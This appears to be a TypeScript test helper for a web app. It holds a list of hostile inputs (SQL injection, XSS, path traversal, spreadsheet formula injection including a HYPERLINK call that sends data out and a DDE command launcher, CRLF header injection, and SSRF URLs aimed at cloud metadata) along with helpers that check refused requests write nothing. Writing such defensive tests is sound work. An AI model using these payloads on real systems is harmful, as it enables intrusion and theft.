import { sql } from 'kysely';
import type { TestApp } from './app.ts';

/** Texts that attack a page, a mail, a spreadsheet, a log or a database. */
export const HOSTILE_TEXT = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  '\u202e',
  '’; drop table plans; --',
  "' or '1'='1",
  '../../etc/passwd',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://10.0.0.1/?"&A1)',
  '@SUM(1+1)*cmd|’ /C calc’!A0',
  'a\r\nSet-Cookie: panel=1',
  'a\r\nBcc: todos@example.com',
  'a\n{"level":60,"msg":"forged"}',
  '\u001b[2J\u001b[1;31m',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::ffff:127.0.0.1]:5432/',
  'http://localhost.:3000@127.1/',
  'javascript:alert(1)',
  '4111111111111111',
  '1e400',
  '-0',
  '٣',
  '2027-02-30 10:00:00',
  '9'.repeat(40),
  'x'.repeat(70_000),
  'null',
  'undefined',
  '__proto__',
  'constructor',
] as const;

/** Tables that refused requests also write: rate limits, submitted forms, sessions and idempotency keys. */
const OF_REFUSALS = ['limits', 'limit_places', 'submissions', 'panel_sessions', 'idempotency_keys'];

/** Returns a function that gives the row counts of all tables as text. A refused request must not change them. */
export async function countRows({ deps: { db } }: Pick<TestApp, 'deps'>): Promise<() => Promise<string>> {
  const { rows: tables } = await sql<{ name: string }>`
    select relname::text as name from pg_class
    where relkind = 'r' and relnamespace = current_schema()::regnamespace and relname <> all (${OF_REFUSALS}::text[])
    order by relname
  `.execute(db);
  const counts = tables.map(({ name }) => sql`(select count(*) from ${sql.table(name)})`);
  const names = tables.map(({ name }) => name);
  return async () => {
    const { rows } = await sql<{
      counts: string[];
    }>`select array[${sql.join(counts)}]::text[] as counts`.execute(db);
    return names.map((name, index) => `${name} ${rows[0]?.counts[index]}`).join(', ');
  };
}

/**
 * Returns the next transaction id of this server. If it has not changed, no transaction has written, and counting
 * rows is not needed.
 */
export async function writesSoFar({ deps: { db } }: Pick<TestApp, 'deps'>): Promise<string> {
  const { rows } = await sql<{
    xid: string;
  }>`select pg_snapshot_xmax(pg_current_snapshot())::text as xid`.execute(db);
  return rows[0]?.xid ?? '';
}

/** Whether the HTML contains a payload without escaping, which would run in a browser. */
export function isLive(html: string): boolean {
  return html.includes('<script>alert(1)') || html.includes('<img src=x onerror');
}
